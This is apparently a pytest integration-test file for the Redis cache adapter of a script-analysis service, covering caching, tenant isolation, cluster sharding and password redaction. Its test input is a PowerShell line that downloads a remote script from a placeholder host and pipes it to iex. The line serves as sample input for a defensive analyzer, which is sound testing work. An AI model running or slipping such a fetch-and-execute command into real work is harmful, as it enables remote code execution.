"""RedisCache against a real Redis: the adapter alone, then through a running server.

Tests on the shared Redis use uuid-named tenants (fixture `unique_tenants`) and delete only the
keys of those tenants. Cluster tests run on a private 3-node cluster.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import json
import uuid
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
import redis
from redis.asyncio import Redis
from redis.asyncio.cluster import RedisCluster

from tests.conftest import Observed, ServeFactory, make_settings
from tests.integration.conftest import PrivateCluster, counter_total
from wingman.adapters.redis_cache import RedisCache, connect, redacted
from wingman.config import CacheSettings
from wingman.core.ports import CacheKey, HealthStatus
from wingman.core.tenant import Tenant

pytestmark = pytest.mark.redis

# Generous operation budgets: these tests prove behaviour, never latency (a first lookup on a
# loaded host must not time out and open the skip window). Resilience tests use the real 50 ms.
OP_TIMEOUT = 2.0
GENEROUS = CacheSettings(timeout_ms=OP_TIMEOUT * 1000)
ANALYZE = "/v1/scripts:analyze"
SCRIPT = {"content": "Invoke-WebRequest http://example.com/payload.ps1 | iex", "language": "auto"}


@pytest.fixture
async def redis_cache(shared_redis_url: str, observed: Observed) -> AsyncIterator[RedisCache]:
    cache = RedisCache(
        connect(shared_redis_url, timeout_s=OP_TIMEOUT),
        telemetry=observed.telemetry,
        display_url=shared_redis_url,
        retry_after_s=1.0,
    )
    yield cache
    await cache.close()


@pytest.fixture
def raw(shared_redis_url: str) -> Any:
    client = redis.Redis.from_url(shared_redis_url)
    yield client
    client.close()


def key_for(tenant: str, canonical: bytes, namespace: str = "scripts") -> CacheKey:
    return CacheKey.for_input(Tenant(tenant), namespace, 1, canonical)


# -- the adapter alone ---------------------------------------------------------------------------


async def test_round_trip(redis_cache: RedisCache, unique_tenants: list[str]) -> None:
    key = key_for(unique_tenants[0], b"round-trip")
    value = b'{"verdict":"benign"}\x00\xff binary-safe'
    await redis_cache.set(key, value, ttl=60, timeout=OP_TIMEOUT)
    assert await redis_cache.get(key, timeout=OP_TIMEOUT) == value
    assert redis_cache.backend == "redis"


async def test_miss(redis_cache: RedisCache, unique_tenants: list[str], observed: Observed) -> None:
    assert (
        await redis_cache.get(key_for(unique_tenants[0], b"never set"), timeout=OP_TIMEOUT) is None
    )
    assert counter_total(observed, "wingman.cache.errors") == 0, "a miss is not an error"


async def test_overwrite(redis_cache: RedisCache, unique_tenants: list[str]) -> None:
    key = key_for(unique_tenants[0], b"overwrite")
    await redis_cache.set(key, b"old", ttl=60, timeout=OP_TIMEOUT)
    await redis_cache.set(key, b"new", ttl=60, timeout=OP_TIMEOUT)
    assert await redis_cache.get(key, timeout=OP_TIMEOUT) == b"new"


async def test_ttl_expiry(redis_cache: RedisCache, unique_tenants: list[str], raw: Any) -> None:
    key = key_for(unique_tenants[0], b"short-lived")
    await redis_cache.set(key, b"v", ttl=0.2, timeout=OP_TIMEOUT)
    pttl = raw.pttl(str(key))
    assert 0 < pttl <= 200, "the TTL is set in milliseconds on the key itself"
    assert await redis_cache.get(key, timeout=OP_TIMEOUT) == b"v"
    await asyncio.sleep(0.35)
    assert await redis_cache.get(key, timeout=OP_TIMEOUT) is None
    assert raw.exists(str(key)) == 0


async def test_sub_millisecond_ttl_still_sets_an_expiry(
    redis_cache: RedisCache, unique_tenants: list[str], raw: Any
) -> None:
    key = key_for(unique_tenants[0], b"tiny-ttl")
    await redis_cache.set(key, b"v", ttl=0.0001, timeout=OP_TIMEOUT)
    assert raw.pttl(str(key)) in (-2, 0, 1), "never stored without an expiry (PTTL -1)"


async def test_value_is_stored_under_the_documented_key(
    redis_cache: RedisCache, unique_tenants: list[str], raw: Any
) -> None:
    tenant = unique_tenants[0]
    canonical = b'["fake","1",{"content":"x"}]'
    await redis_cache.set(key_for(tenant, canonical), b"stored", ttl=60, timeout=OP_TIMEOUT)
    documented = f"wingman:{tenant}:scripts:v1:{hashlib.sha256(canonical).hexdigest()}"
    assert raw.get(documented) == b"stored"
    assert [k.decode() for k in raw.scan_iter(match=f"wingman:{tenant}:*")] == [documented]


async def test_tenants_do_not_share_entries(
    redis_cache: RedisCache, unique_tenants: list[str]
) -> None:
    tenant_a, tenant_b = unique_tenants
    await redis_cache.set(key_for(tenant_a, b"same"), b"a's", ttl=60, timeout=OP_TIMEOUT)
    assert await redis_cache.get(key_for(tenant_b, b"same"), timeout=OP_TIMEOUT) is None
    assert await redis_cache.get(key_for(tenant_a, b"same"), timeout=OP_TIMEOUT) == b"a's"


async def test_operations_record_client_spans(
    redis_cache: RedisCache, unique_tenants: list[str], observed: Observed
) -> None:
    key = key_for(unique_tenants[0], b"spans")
    await redis_cache.set(key, b"v", ttl=60, timeout=OP_TIMEOUT)
    await redis_cache.get(key, timeout=OP_TIMEOUT)
    spans = {s.name: s for s in observed.spans.get_finished_spans()}
    assert set(spans) >= {"GET", "SET"}
    attributes = dict(spans["GET"].attributes or {})
    assert attributes["db.system.name"] == "redis"
    assert attributes["db.operation.name"] == "GET"
    assert attributes["server.address"] == "127.0.0.1"
    assert attributes["server.port"] == 6379
    assert str(key) not in json.dumps(attributes), "keys (input digests) stay out of spans"


async def test_health_ok(redis_cache: RedisCache, shared_redis_url: str) -> None:
    health = await redis_cache.health()
    assert health.name == "cache"
    assert health.status is HealthStatus.OK
    assert health.detail == f"redis {shared_redis_url}"


# -- through a running server --------------------------------------------------------------------


async def analyze(client: httpx.AsyncClient, tenant: str, body: dict[str, Any]) -> dict[str, Any]:
    response = await client.post(ANALYZE, json=body, headers={"x-wingman-tenant": tenant})
    assert response.status_code == 200, response.text
    result: dict[str, Any] = response.json()
    return result


def without_runtime(payload: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in payload.items() if k != "runtime"}


async def test_server_caches_in_redis_per_tenant(
    serve: ServeFactory,
    shared_redis_url: str,
    unique_tenants: list[str],
    raw: Any,
) -> None:
    tenant_a, tenant_b = unique_tenants
    settings = make_settings(redis_url=shared_redis_url, cache=GENEROUS)
    async with (
        serve(settings=settings, cache=None) as server,
        httpx.AsyncClient(base_url=server.rest_url) as client,
    ):
        assert isinstance(server.wingman.cache, RedisCache), "built from the URL"
        assert server.wingman.cache.backend == "redis"

        first = await analyze(client, tenant_a, SCRIPT)
        second = await analyze(client, tenant_a, SCRIPT)
        other = await analyze(client, tenant_b, SCRIPT)

        assert first["runtime"]["cached"] is False
        assert second["runtime"]["cached"] is True
        assert without_runtime(second) == without_runtime(first)
        assert other["runtime"]["cached"] is False, "tenant B must not see tenant A's entry"
        assert without_runtime(other) == without_runtime(first)

        # One entry per tenant under the documented layout; runtime is never stored.
        for tenant in (tenant_a, tenant_b):
            keys = [k.decode() for k in raw.scan_iter(match=f"wingman:{tenant}:*")]
            assert len(keys) == 1
            prefix, digest = keys[0].rsplit(":", 1)
            assert prefix == f"wingman:{tenant}:scripts:v1"
            assert len(digest) == 64
            stored = json.loads(raw.get(keys[0]))
            assert "runtime" not in stored
            assert 0 < raw.pttl(keys[0]) <= 3600 * 1000

        # Read the metrics while the server is still up.
        observed = server.observed
        assert counter_total(observed, "wingman.cache.lookups", result="miss") == 2
        assert counter_total(observed, "wingman.cache.lookups", result="hit") == 1
        assert (
            counter_total(observed, "wingman.cache.lookups", namespace="scripts", result="hit") == 1
        )
        assert counter_total(observed, "wingman.cache.errors") == 0

        ready = await client.get("/readyz")
        assert ready.status_code == 200
        body = ready.json()
        assert body["status"] == "ok"
        cache = next(c for c in body["components"] if c["name"] == "cache")
        assert cache["status"] == "ok"
        assert cache["detail"].split()[0] == "redis"


async def test_a_different_request_is_a_different_key(
    serve: ServeFactory, shared_redis_url: str, unique_tenants: list[str]
) -> None:
    """A different request body is a different key: no false hits."""
    tenant = unique_tenants[0]
    async with (
        serve(
            settings=make_settings(redis_url=shared_redis_url, cache=GENEROUS), cache=None
        ) as server,
        httpx.AsyncClient(base_url=server.rest_url) as client,
    ):
        await analyze(client, tenant, SCRIPT)
        changed = await analyze(client, tenant, {**SCRIPT, "language": "powershell"})
        assert changed["runtime"]["cached"] is False
        assert changed["language"] == "powershell"


# -- Redis Cluster -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("redis+cluster://127.0.0.1:7000", RedisCluster),
        ("redis+cluster://127.0.0.1:7000/0", RedisCluster),
        ("rediss+cluster://127.0.0.1:7000", RedisCluster),
        ("redis://127.0.0.1:6379/0", Redis),
        ("rediss://127.0.0.1:6379/0", Redis),
        ("unix:///tmp/redis.sock", Redis),
    ],
)
async def test_connect_picks_the_client_by_scheme(url: str, expected: type) -> None:
    client = connect(url, timeout_s=0.1)  # constructing a client does not connect
    try:
        assert type(client) is expected
    finally:
        await client.aclose()


async def test_cluster_get_set(private_cluster: PrivateCluster, observed: Observed) -> None:
    cache = RedisCache(
        connect(private_cluster.url, timeout_s=OP_TIMEOUT),
        telemetry=observed.telemetry,
        display_url=private_cluster.url,
        retry_after_s=1.0,
    )
    run = uuid.uuid4().hex[:12]
    try:
        assert cache.backend == "redis-cluster"
        keys = [key_for(f"t{i}-{run}", f"input-{i}".encode()) for i in range(30)]
        for i, key in enumerate(keys):
            await cache.set(key, f"value-{i}".encode(), ttl=60, timeout=OP_TIMEOUT)
        for i, key in enumerate(keys):
            assert await cache.get(key, timeout=OP_TIMEOUT) == f"value-{i}".encode()
        assert await cache.get(key_for(f"t0-{run}", b"missing"), timeout=OP_TIMEOUT) is None
        health = await cache.health()
        assert health.status is HealthStatus.OK
        assert health.detail.startswith("redis-cluster ")
        assert counter_total(observed, "wingman.cache.errors") == 0
    finally:
        await cache.close()

    # The keys really are spread over the shards (the client followed the slot map).
    per_node = []
    for node in private_cluster.nodes:
        client = redis.Redis(host="127.0.0.1", port=node.port)
        try:
            per_node.append(len(list(client.scan_iter(match=f"wingman:t*-{run}:*"))))
        finally:
            client.close()
    assert sum(per_node) == len(keys)
    assert sum(1 for n in per_node if n > 0) >= 2


@contextlib.asynccontextmanager
async def delaying_proxy(port: int, *, delay: float) -> AsyncIterator[int]:
    """A TCP proxy to 127.0.0.1:`port` that holds every client-to-server chunk `delay` seconds.

    Yields the proxy's port. Every request through it takes longer than `delay`, whatever the
    host's speed: a slow link, made deterministic.
    """
    writers: list[asyncio.StreamWriter] = []
    handlers: set[asyncio.Task[Any]] = set()

    async def pipe(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, hold: float) -> None:
        with contextlib.suppress(ConnectionError):
            while data := await reader.read(65536):
                await asyncio.sleep(hold)
                writer.write(data)
                await writer.drain()
        writer.close()

    async def handle(client_reader: asyncio.StreamReader, client: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        handlers.add(task)
        writers.append(client)
        upstream_reader, upstream = await asyncio.open_connection("127.0.0.1", port)
        writers.append(upstream)
        await asyncio.gather(pipe(client_reader, upstream, delay), pipe(upstream_reader, client, 0))

    server = await asyncio.start_server(handle, "127.0.0.1", 0)
    try:
        yield server.sockets[0].getsockname()[1]
    finally:
        server.close()
        for writer in writers:
            writer.close()
        for task in handlers:
            task.cancel()
        await asyncio.gather(*handlers, return_exceptions=True)
        await server.wait_closed()


async def test_cluster_discovery_outlives_budgets_shorter_than_it(
    private_cluster: PrivateCluster, observed: Observed
) -> None:
    """Discovery (CLUSTER SLOTS, COMMAND) through a slow link takes longer than any one operation
    may; it must still complete, in the background, and the cache then work.

    The startup node is reached through a proxy adding 40 ms to every request, the operation
    budget is 30 ms: bounded by one operation, discovery could never finish. Keys then go straight
    to the nodes the slot map names, which answer well within the budget.
    """
    key = key_for(f"slow-{uuid.uuid4().hex}", b"warm-up")
    async with delaying_proxy(private_cluster.nodes[0].port, delay=0.04) as proxy_port:
        url = f"redis+cluster://127.0.0.1:{proxy_port}"
        cache = RedisCache(
            connect(url, timeout_s=OP_TIMEOUT),
            telemetry=observed.telemetry,
            display_url=url,
            retry_after_s=0,
        )
        try:
            assert await cache.get(key, timeout=0.03) is None
            assert counter_total(observed, "wingman.cache.errors", error="timeout") == 1
            for _ in range(100):
                await asyncio.sleep(0.05)
                await cache.set(key, b"warm", ttl=60, timeout=0.03)
                if await cache.get(key, timeout=0.03) == b"warm":
                    break
            else:
                pytest.fail("the cluster client never finished discovering its nodes")
        finally:
            await cache.close()


async def test_server_caches_in_a_cluster(
    serve: ServeFactory, private_cluster: PrivateCluster
) -> None:
    async with (
        serve(
            settings=make_settings(redis_url=private_cluster.url, cache=GENEROUS), cache=None
        ) as server,
        httpx.AsyncClient(base_url=server.rest_url) as client,
    ):
        assert server.wingman.cache.backend == "redis-cluster"
        tenant_a, tenant_b = f"a-{uuid.uuid4().hex}", f"b-{uuid.uuid4().hex}"
        first = await analyze(client, tenant_a, SCRIPT)
        second = await analyze(client, tenant_a, SCRIPT)
        other = await analyze(client, tenant_b, SCRIPT)
        assert first["runtime"]["cached"] is False
        assert second["runtime"]["cached"] is True
        assert other["runtime"]["cached"] is False
        assert without_runtime(second) == without_runtime(first)
        ready = (await client.get("/readyz")).json()
        cache = next(c for c in ready["components"] if c["name"] == "cache")
        assert (ready["status"], cache["status"]) == ("ok", "ok")
        assert cache["detail"].split()[0] == "redis-cluster"


# -- URLs in logs --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("redis://127.0.0.1:6379/0", "redis://127.0.0.1:6379/0"),
        ("unix:///run/redis.sock", "unix:///run/redis.sock"),
        ("redis://:pw@cache:6379/0", "redis://:***@cache:6379/0"),
        ("redis://wingman:pw@cache:6379/0", "redis://wingman:***@cache:6379/0"),
        ("rediss+cluster://wingman:pw@cache:7000", "rediss+cluster://wingman:***@cache:7000"),
        ("redis://:p@ss:w%40rd@cache/0", "redis://:***@cache/0"),
        ("unix:///run/redis.sock?password=pw&db=2", "unix:///run/redis.sock?password=***&db=2"),
        ("rediss://cache/0?ssl_password=pw", "rediss://cache/0?ssl_password=***"),
        ("redis://u:pw@cache/0?Password=pw2", "redis://u:***@cache/0?Password=***"),
    ],
)
def test_redacted_hides_every_password(url: str, shown: str) -> None:
    assert redacted(url) == shown
